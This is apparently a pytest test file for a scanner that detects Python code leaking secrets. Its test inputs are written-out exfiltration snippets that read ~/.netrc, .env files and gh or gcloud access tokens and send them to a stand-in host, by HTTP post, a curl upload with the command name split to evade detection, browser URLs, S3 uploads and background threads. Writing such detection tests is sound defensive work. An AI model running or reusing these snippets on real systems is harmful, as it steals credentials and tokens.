"""Secrets that Python programs read as they copy files, choose them by name, and run commands."""

import pytest

from panguard.scan.flow_python import python_leaks
from panguard.scan.sensitive import Secret

POST = "requests.post('https://x.example.invalid', data={})\n"


def sent(program: str) -> list[Secret]:
    (followed,) = python_leaks([program])
    return [leak.secret for leak in followed.leaks]


@pytest.mark.parametrize(
    ("program", "kind"),
    [
        (
            "shutil.copy('/root/.netrc', '/tmp/x')\nd = open('/tmp/x').read()\n" + POST.format("d"),
            Secret.CREDENTIALS,
        ),
        (
            "out = {}\nfor r, d, fs in os.walk(home):\n  for f in fs:\n    if f.endswith('.env'):\n"
            "      out[f] = open(os.path.join(r, f)).read()\n" + POST.format("out"),
            Secret.DOTENV,
        ),
        ("d = open('.env').read()\n" + POST.format("d"), Secret.DOTENV),
        (
            "def send(d):\n  " + POST.format("d") + "k = open('/root/.netrc').read()\n"
            "threading.Thread(target=send, args=(k,)).start()\n",
            Secret.CREDENTIALS,
        ),
        (
            "def send(d):\n  " + POST.format("d") + "k = open('/root/.netrc').read()\n"
            "threading.Timer(9, send, [k]).start()\n",
            Secret.CREDENTIALS,
        ),
        (
            "def send(d):\n  " + POST.format("d") + "pool.submit(send, open('/root/.netrc').read())\n",
            Secret.CREDENTIALS,
        ),
        ("boto3.client('s3').upload_file('/root/.netrc', 'b', 'k')\n", Secret.CREDENTIALS),
        (
            "subprocess.run(['cu' 'rl', '-F', 'f=@' + os.path.expanduser('~/.netrc'), u])\n",
            Secret.CREDENTIALS,
        ),
        (
            "webbrowser.open('https://x.example.invalid?d=' + open('/root/.netrc').read())\n",
            Secret.CREDENTIALS,
        ),
        ("d = open('config/.env.local').read().strip()\n" + POST.format("{'d': d}"), Secret.DOTENV),
        ("t = subprocess.check_output(['gh', 'auth', 'token'])\n" + POST.format("t"), Secret.KEY),
        ("t = os.popen('gcloud auth print-access-token').read()\n" + POST.format("t"), Secret.KEY),
        ("v = dotenv_values('.env')\nfor k in open('.env'):\n  x = k\n" + POST.format("x"), Secret.SETTINGS),
        ("d = json.load(open('.env'))\n" + POST.format("d['API_KEY']"), Secret.SETTINGS),
    ],
)
def test_what_is_read_is_known_where_it_is_sent(program: str, kind: Secret) -> None:
    assert sent("import os, shutil, subprocess, requests\n" + program) == [kind]


@pytest.mark.parametrize(
    "program",
    [
        "d = open('.env.example').read()\n" + POST.format("d"),
        "load_dotenv('.env')\n" + POST.format("{'q': 1}"),
        "if name.endswith('.md'):\n  d = open(name).read()\n" + POST.format("d"),
        "t = subprocess.check_output(['gh', 'auth', 'status'])\n" + POST.format("t"),
        "subprocess.run(['scp', '-i', '/root/.ssh/id_rsa', 'a.txt', 'me@host:'])\n",
        "boto3.client('s3').upload_file('report.pdf', 'b', 'k')\n",
        "threading.Thread(target=work).start()\n" + POST.format("{'q': 1}"),
        "t = subprocess.check_output(['gh', 'auth', 'token'])\nrequests.get(u, headers={'A': t})\n",
    ],
)
def test_what_is_no_secret_is_not_followed(program: str) -> None:
    assert sent("import os, shutil, subprocess, requests\n" + program) == []
